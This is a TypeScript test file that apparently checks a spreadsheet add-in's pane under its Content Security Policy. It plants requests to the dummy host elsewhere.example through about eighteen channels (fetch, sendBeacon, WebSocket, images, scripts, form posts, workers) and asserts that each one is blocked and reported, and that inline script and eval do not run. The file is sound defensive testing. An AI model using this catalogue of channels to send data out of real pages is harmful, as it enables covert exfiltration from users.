/** Nothing leaves the origin: every function is called here, every screen is opened in screens.test.ts, and what both rely on is shown to see, and the policy to stop, whatever is planted. */
import type { Frame } from "playwright-core";

import { functions } from "../../src/functions";
import { calledFunctions, callEveryFunction } from "./everyFunction";
import { opened } from "./cells";
import { until } from "./until";
import type { Workbench } from "./workbench";

jest.setTimeout(180_000);

/** A host that nobody has: were a request let through, it would fail. */
const ELSEWHERE = "https://elsewhere.example/x";

/** Ways for a page to send something away without leaving it: all that a script can start. */
const WAYS: Readonly<Record<string, string>> = {
  fetch: `fetch(url).catch(() => 0)`,
  "fetch that waits for no answer": `fetch(url, { mode: "no-cors", keepalive: true }).catch(() => 0)`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open("POST", url); request.onerror = () => 0; request.send("x")`,
  beacon: `navigator.sendBeacon(url, "x")`,
  WebSocket: `new WebSocket(url.replace("https", "wss"))`,
  EventSource: `new EventSource(url)`,
  picture: `new Image().src = url`,
  "picture of a style": `document.body.style.backgroundImage = "url(" + url + ")"`,
  stylesheet: `append("link", { rel: "stylesheet", href: url })`,
  font: `new FontFace("planted", "url(" + url + ")").load().catch(() => 0)`,
  script: `append("script", { src: url })`,
  module: `import(url).catch(() => 0)`,
  prefetch: `append("link", { rel: "prefetch", href: url })`,
  frame: `append("iframe", { src: url })`,
  form: `const form = append("form", { action: url, method: "post", target: "planted" }); append("iframe", { name: "planted" }); form.submit()`,
  video: `append("video", { src: url })`,
  object: `append("object", { data: url })`,
  "fetch of a worker": `new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "').catch(() => 0)"])))`,
};

/** Starts a request in the pane's own page, as a script of the add-in could. */
const plant = (pane: Frame, way: string, url: string): Promise<void> =>
  pane.evaluate(
    `{ const url = ${JSON.stringify(url)};
       const append = (tag, facts) => document.body.appendChild(Object.assign(document.createElement(tag), facts));
       try { ${way} } catch {} }`,
  );

test("every function is called and gives its answer, and no request leaves the origin", async () => {
  const { page, log, close } = await opened({ file: "none", locale: "en-US" });
  expect(await callEveryFunction(page)).toEqual([]);
  expect(calledFunctions.sort()).toEqual(Object.keys(functions).sort());
  expect(log.outside).toEqual([]);
  await close();
});

describe("a request that is planted in the pane", () => {
  const answered: string[] = [];
  let bench: Workbench;
  beforeAll(async () => {
    bench = await opened({ file: "none", locale: "en-US" });
    bench.page.context().on("response", (response) => answered.push(response.url()));
  });

  test.each(Object.entries(WAYS))("is kept in, and reported: %s", async (_, way) => {
    const { addin, log } = bench;
    log.outside.length = 0;
    await plant(addin, way, ELSEWHERE);
    await until(() => log.outside.some((one) => one.includes("Content Security Policy")));
    expect(log.outside.join()).toMatch(/elsewhere\.example|blob:/);
    expect(answered.filter((url) => url.startsWith(ELSEWHERE))).toEqual([]);
  });

  test("nor does the pane run a text as a program", async () => {
    const ran = await bench.addin.evaluate(
      () =>
        new Promise<boolean[]>((resolve) => {
          const script = document.createElement("script");
          script.textContent = "window.ranAsText = true";
          document.body.append(script);
          // Later: what a test asks of a page at once, the browser lets pass.
          setTimeout(() => {
            try {
              resolve([new Function("return true")() as boolean, "ranAsText" in window]);
            } catch {
              resolve([false, "ranAsText" in window]);
            }
          });
        }),
    );
    expect(ran).toEqual([false, false]);
  });

  test("fails the test that it happens in", async () => {
    await expect(bench.close()).rejects.toThrow(/left https:/);
  });
});
